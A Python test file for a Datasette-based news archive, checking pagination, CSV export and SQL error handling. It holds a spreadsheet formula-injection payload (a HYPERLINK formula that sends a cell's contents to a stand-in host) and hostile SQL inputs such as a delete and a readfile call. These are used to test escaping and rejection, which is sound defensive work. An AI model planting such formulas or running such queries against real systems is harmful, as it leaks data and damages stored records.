"""Datasette's tables, page by page and as files: each row once, no row missing, no cell that a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from reports.web import own_sql, stock
from reports.web.server import Pages
from reports.web.tables import HIDDEN
from storage.archive import Archive
from tests.storage.test_search_many import copied
from tests.web.conftest import Reader
from tests.web.world import MONDAY, NOW, World, an_article

COPIES = 120
TITLE = '=HYPERLINK("http://site.example/?"&A1,"UNMISS")'
WIDE = "＝1+1 UNMISS peacekeepers"


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reader]:
    """More articles than two pages of a table hold, many of them alike in every column that tables are sorted by."""
    made = World(tmp_path_factory.mktemp("tables") / "data")
    made.source("harbour", "Harbour Defence Daily")
    body = "JUBA, Nov. 9 -- UNMISS peacekeepers of the United Nations Mission in South Sudan {} the ferry."
    for number, (title, word) in enumerate(((TITLE, "used"), (WIDE, "rebuilt"), ("-1.5", "guarded"))):
        made.publish(title, an_article("harbour", number, title, body.format(word), MONDAY), MONDAY)
    copied(made.archive, COPIES)
    with made.archive.db.write():
        made.archive.db.execute("UPDATE articles SET language = NULL WHERE id % 3 = 0")
    made.archive.close()
    reader = Reader(Pages(made.data, now=lambda: NOW))
    yield reader
    reader.close()


def counted(reader: Reader, name: str) -> int:
    rows = reader.get(f"/archive.json?_shape=array&sql=select+count(*)+as+n+from+{name}").json()
    return int(rows[0]["n"])


def by_pages(reader: Reader, path: str) -> Counter[str]:
    rows: Counter[str] = Counter()
    url: str | None = path
    while url:
        page = reader.get(url.removeprefix("http://127.0.0.1:8001")).json()
        rows.update(json.dumps(row) for row in page["rows"])
        url = page["next_url"]
    return rows


def as_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def names(reader: Reader) -> list[str]:
    with Archive.open(reader.pages.desk.data, read_only=True) as archive:
        return [name for name in stock.keys_of(archive.db) if name not in HIDDEN and not name.startswith("articles_w")]


@pytest.mark.parametrize("size", [7, 50])
def test_the_pages_of_every_table_and_view_hold_each_row_once(big: Reader, size: int) -> None:
    there = names(big)
    assert {"articles", "items", "claims", "coverage", "captures"} <= set(there)
    for name in there:
        rows = by_pages(big, f"/archive/{name}.json?_size={size}&_nofacet=1")
        assert (rows.total(), {name: n for name, n in rows.items() if n > 1}) == (counted(big, name), {}), name


@pytest.mark.parametrize(
    "sort",
    [
        "_sort_desc=first_seen_at",
        "_sort_desc=language",
        "_sort=language",
        "_sort_desc=label",
        "_sort=label&published_at__gt=2",
    ],
)
@pytest.mark.parametrize("name", ["articles", "items"])
def test_pages_of_a_chosen_order_hold_each_row_once(big: Reader, name: str, sort: str) -> None:
    rows = by_pages(big, f"/archive/{name}.json?_size=50&_col=uid&{sort}")
    assert (len(rows), rows.total()) == (COPIES + 3, COPIES + 3)


def test_a_table_as_csv_is_whole_unless_a_part_is_asked_for(big: Reader, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(big.pages.datasette, "max_returned_rows", 60)
    for query in ("", "?_size=max", "?_sort_desc=label&_size=max", "?_stream=1&_size=20"):
        rows = as_csv(big.get(f"/archive/articles.csv{query}").text)
        assert len(rows) == len({tuple(row) for row in rows}) == COPIES + 4, query
    assert len(as_csv(big.get("/archive/articles.csv?_size=20").text)) == 21


def test_an_answer_to_sql_as_csv_is_whole_or_says_where_it_was_cut(
    big: Reader, monkeypatch: pytest.MonkeyPatch
) -> None:
    sql = quote("select a.id, b.id as other, a.title from articles a, articles b where a.label = :label")
    answer = big.get(f"/archive.csv?sql={sql}&label=peacekeeping&_size=max")
    assert answer.headers["content-type"].startswith("text/csv")
    rows = as_csv(answer.text)
    assert rows[0] == ["id", "other", "title"]
    assert len(rows) == 1 + (COPIES + 3) ** 2
    monkeypatch.setattr(own_sql, "MOST_BYTES", 1 << 10)
    rows = as_csv(big.get(f"/archive.csv?sql={sql}&label=peacekeeping").text)
    assert rows[-1][0].startswith("cut here")
    assert {len(row) for row in rows} == {3}


@pytest.mark.parametrize(
    ("sql", "said"),
    [
        ("", "which rows"),
        ("delete from articles", "Statement must be a SELECT"),
        ("select * from nowhere", "no such table"),
        ("select readfile('x')", "readfile"),
    ],
)
def test_sql_that_has_no_answer_is_told_in_plain_text(big: Reader, sql: str, said: str) -> None:
    answer = big.get(f"/archive.csv?sql={quote(sql)}")
    assert (answer.status_code, answer.headers["content-type"]) == (400, "text/plain; charset=utf-8")
    assert said in answer.text


def test_no_cell_of_any_csv_is_a_formula(big: Reader) -> None:
    sql = quote("select title, -1.5 as n, ' =1' as blank from articles where id <= 3")
    for path in ("/archive/articles.csv?_col=title&id__lte=3", f"/archive.csv?sql={sql}", "/search.csv?q=ferry"):
        cells = {cell for row in as_csv(big.get(path).text) for cell in row}
        assert {f"'{TITLE}", f"'{WIDE}", "'-1.5"} <= cells, path
        assert not {TITLE, WIDE, " =1"} & cells
    assert "-1.5" in as_csv(big.get(f"/archive.csv?sql={sql}").text)[1]


def test_facets_are_suggested_for_a_small_table_and_not_for_a_large_one(
    big: Reader, monkeypatch: pytest.MonkeyPatch
) -> None:
    there = [facet["name"] for facet in big.get("/archive/articles.json").json()["suggested_facets"]]
    assert {"updated_at", "body"} <= set(there)
    monkeypatch.setattr(stock, "MOST_SUGGESTED", COPIES)
    told = big.get("/archive/articles.json?_facet=language").json()
    assert (told["filtered_table_rows_count"], told["suggested_facets"]) == (COPIES + 3, [])
    assert told["facet_results"]["language"]["results"]  # the one that was asked for


@pytest.mark.parametrize("name", ["items", "articles"])
def test_a_table_that_takes_too_long_to_count_is_shown_without_its_count(
    big: Reader, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(stock, "COUNT_MS", 1e-6)
    told = big.get(f"/archive/{name}.json").json()
    assert (told["filtered_table_rows_count"], told["suggested_facets"]) == (None, [])
    assert told["rows"]
    assert big.get(f"/archive/{name}").status_code == 200
